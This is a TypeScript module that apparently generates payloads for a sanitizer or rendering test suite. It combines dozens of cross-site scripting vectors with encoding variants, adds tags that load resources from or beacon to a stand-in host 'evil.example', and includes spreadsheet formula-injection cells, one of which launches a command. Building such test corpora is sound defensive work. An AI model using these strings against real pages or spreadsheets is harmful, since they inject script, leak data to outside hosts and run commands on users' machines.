/** What a script does that runs: each is heard by the suite. */
const DEEDS = [
  "__ran()",
  "alert(1)",
  "top.__ran()",
  "fetch('https://evil.example/f')",
  "new Image().src='https://evil.example/i'",
  "document.title='run'",
];

/** Ways to make markup run something, `JS` being what is run. */
const RUNNING = [
  "<script>JS</script>",
  "<script src=https://evil.example/s.js></script>",
  "<ScRiPt>JS</sCrIpT>",
  "<scr<script>ipt>JS</scr</script>ipt>",
  '<img src=x onerror="JS">',
  "<img src=x onerror=JS//",
  "<svg onload=JS>",
  "<svg><script>JS</script></svg>",
  "<svg><animate onbegin=JS attributeName=x dur=1s>",
  "<body onload=JS>",
  "<input autofocus onfocus=JS>",
  "<details open ontoggle=JS>x</details>",
  "<video><source onerror=JS></video>",
  "<audio src=x onerror=JS>",
  "<iframe srcdoc='<script>JS</script>'></iframe>",
  '<iframe src="javascript:JS"></iframe>',
  '<a href="javascript:JS">open</a>',
  '<a href="data:text/html,<script>JS</script>">open</a>',
  "<math><mtext><table><mglyph><style><img src=x onerror=JS>",
  "<marquee onstart=JS>x</marquee>",
  "<object data='javascript:JS'></object>",
  "<embed src='javascript:JS'>",
  '<form action="javascript:JS"><button>x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  '"><img src=x onerror=JS>',
  "'><svg onload=JS>",
  "</title><script>JS</script>",
  "</textarea><script>JS</script>",
  "</style><script>JS</script>",
  "--><script>JS</script>",
  "]]><script>JS</script>",
  "{{constructor.constructor('JS')()}}",
  "${JS}",
  "javascript:JS",
  "[open](javascript:JS)",
  "<template><script>JS</script></template>",
  "<div style=\"background:url('javascript:JS')\">x</div>",
  "<xss onpointerenter=JS style=position:fixed;inset:0>x</xss>",
];

/** Ways to make a page load something from elsewhere, or leave it. */
const LOADING = [
  "<img src=https://evil.example/p.png>",
  "<img srcset='https://evil.example/p.png 1x'>",
  "<link rel=stylesheet href=https://evil.example/s.css>",
  "<style>@import url(https://evil.example/s.css);</style>",
  "<div style='background:url(https://evil.example/b.png)'>x</div>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<iframe src=https://evil.example/></iframe>",
  "<video poster=https://evil.example/v.png></video>",
  "<svg><image href=https://evil.example/i.png /></svg>",
  "<input type=image src=https://evil.example/i.png>",
  "![x](https://evil.example/m.png)",
  "<form action=https://evil.example/ ><input autofocus></form>",
  "<object data=https://evil.example/o></object>",
];

/** Ways in which a text may have been written on its way. */
const WRITTEN: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => `Müller & Söhne ${text}`,
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
];

/** Cells that a spreadsheet would compute. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  '=IMPORTXML("https://evil.example","//a")',
];

/** Every payload, all of them different. */
export function payloads(): readonly string[] {
  const running = RUNNING.flatMap((form) => DEEDS.map((deed) => form.replaceAll("JS", deed)));
  const all = [...running, ...LOADING].flatMap((text) => WRITTEN.map((write) => write(text)));
  return [...new Set([...all, ...FORMULAS])];
}
